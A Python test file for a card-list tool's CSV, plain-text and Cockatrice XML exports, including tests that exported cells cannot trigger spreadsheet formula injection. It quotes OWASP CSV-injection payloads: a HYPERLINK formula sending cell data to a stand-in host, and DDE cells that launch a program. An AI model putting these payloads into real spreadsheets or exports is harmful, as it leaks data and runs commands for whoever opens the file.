import csv
import io
import xml.etree.ElementTree as ET

from hypothesis import given
from hypothesis import strategies as st

from cards.parsing.cubecobra_csv import inert_cell, parse_cubecobra_csv, read_cell
from cards.parsing.exports import (
    CUBECOBRA_HEADER,
    export_cockatrice_deck,
    export_cubecobra_csv,
    export_plain_text,
)
from cards.parsing.facts import CardRecord, normalise_name
from cards.parsing.plaintext import parse_plain_text

LEGACY_CSV = (
    "Name,CMC,Type,Color,Set,Collector Number,Rarity,Color Category,Status,Finish,Maybeboard,"
    "Image URL,Image Back URL,Tags,Notes,MTGO ID\r\n"
    '"Kongming, ""Sleeping Dragon""",6,"Legendary Creature - Human Advisor",W,"ptk","8",rare,w,Owned,,'
    'false,https://img/k.jpg,,"core;Anthem","a, note",\r\n'
    '"Kitchen Finks",3,"Creature - Ouphe",GW,"shm","229",uncommon,h,Owned,,true,,,"occasional","",\r\n'
    '"Strip Mine",,"Land",,"ath","80",uncommon,l,Owned,,false,,,"","",\r\n'
    '"Fire // Ice",4,"Instant // Instant",UR,"mh2","290",uncommon,m,Owned,,false,,https://img/back.jpg,"","",\r\n'
)


def test_csv_has_the_current_20_column_header():
    header = next(csv.reader(io.StringIO(export_cubecobra_csv([]))))
    assert header == list(CUBECOBRA_HEADER)
    assert len(header) == 20
    assert header[10:12] == ["board", "maybeboard"]


def test_csv_round_trip_gives_the_same_rows():
    rows = parse_cubecobra_csv(LEGACY_CSV).rows
    assert len(rows) == 4
    again = parse_cubecobra_csv(export_cubecobra_csv(rows))
    assert again.problems == []
    assert again.rows == rows


def test_csv_from_dicts_and_records_with_counts_and_modules():
    text = export_cubecobra_csv(
        [
            {"name": "Opt", "mana_value": 1, "type_line": "Instant", "colors": ["U"], "count": 2},
            {"name": "Shock", "module": "core", "tags": ["Burn"], "board": "maybeboard", "mana_value": 1.5},
            CardRecord(name="Wastes", type_line="Basic Land", mana_value=0, color_category="Lands"),
        ]
    )
    rows = parse_cubecobra_csv(text).rows
    assert [(row.name, row.color_category, row.board, row.module) for row in rows] == [
        ("Opt", "Blue", "mainboard", None),
        ("Opt", "Blue", "mainboard", None),
        ("Shock", "Colorless", "maybeboard", "core"),
        ("Wastes", "Lands", "mainboard", None),
    ]
    assert rows[2].tags == ["Burn", "core"]
    assert rows[2].mana_value == 1.5
    assert rows[3].mana_value == 0


def test_plain_text_counts_names_per_board():
    cards = [
        {"name": "Opt"},
        {"name": "Shock", "board": "maybeboard"},
        {"name": "Opt"},
        {"name": "Ponder", "count": 3},
    ]
    assert export_plain_text(cards) == "# mainboard\n2 Opt\n3 Ponder\n\n# maybeboard\n1 Shock\n"
    assert export_plain_text(cards, maybeboard=False) == "2 Opt\n3 Ponder\n"
    assert export_plain_text(cards[:1]) == "# mainboard\n1 Opt\n"


def test_plain_text_round_trip():
    rows = parse_cubecobra_csv(LEGACY_CSV).rows
    parsed = parse_plain_text(export_plain_text(rows)).rows
    assert sorted((row.name, row.board) for row in parsed) == sorted((row.name, row.board) for row in rows)


def test_cockatrice_deck_is_escaped_xml_with_zones():
    data = export_cockatrice_deck(
        [{"name": 'Kongming, "Sleeping Dragon"'}, {"name": "A & <B>", "board": "maybeboard"}, {"name": "Opt"},
         {"name": "Opt"}],
        deck_name="Cube <1> & co",
    )  # fmt: skip
    assert data.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    assert b"A &amp; &lt;B&gt;" in data
    root = ET.fromstring(data)
    assert (root.tag, root.get("version"), root.findtext("deckname")) == (
        "cockatrice_deck",
        "1",
        "Cube <1> & co",
    )
    zones = {zone.get("name"): [(c.get("number"), c.get("name")) for c in zone] for zone in root.iter("zone")}
    assert zones == {
        "main": [("1", 'Kongming, "Sleeping Dragon"'), ("2", "Opt")],
        "side": [("1", "A & <B>")],
    }


def test_cockatrice_deck_without_maybeboard_has_only_main():
    root = ET.fromstring(export_cockatrice_deck([{"name": "Opt"}]))
    assert [zone.get("name") for zone in root.iter("zone")] == ["main"]


# Cells a spreadsheet runs when it opens a CSV (OWASP's CSV injection payloads), and the starts
# that make a cell a formula in Excel, LibreOffice and Google Sheets.
INJECTIONS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''@x",
]  # fmt: skip
RUNS = ("=", "@", "\t", "\r", "+", "-")


def test_no_cell_of_a_csv_export_runs_in_a_spreadsheet_and_each_reads_back():
    cards = [{"name": text, "tags": [text], "notes": text} for text in INJECTIONS]
    exported = export_cubecobra_csv(cards)
    for row in list(csv.reader(io.StringIO(exported)))[1:]:
        for cell in row:
            assert not cell.startswith(RUNS), row
    read = parse_cubecobra_csv(exported, resolve=lambda name: True).rows
    expected = [(normalise_name(text), [text.strip()], text.strip()) for text in INJECTIONS]
    assert [(row.name, row.tags, row.notes) for row in read] == expected


@given(cell=st.text(alphabet=st.sampled_from("=@+-'\t\r(|!aZ 1"), max_size=8) | st.text(max_size=8))
def test_every_cell_reads_back_as_it_was_and_none_starts_a_formula(cell):
    written = inert_cell(cell)
    assert read_cell(written) == cell
    runs = written.startswith(("=", "@", "\t", "\r")) or (
        written.startswith(("+", "-")) and any(sign in written for sign in "(|!")
    )
    assert not runs, written


def test_a_card_whose_name_starts_with_a_sign_is_written_as_it_is():
    assert inert_cell("+2 Mace") == "+2 Mace"  # no function, program or sheet: nothing runs
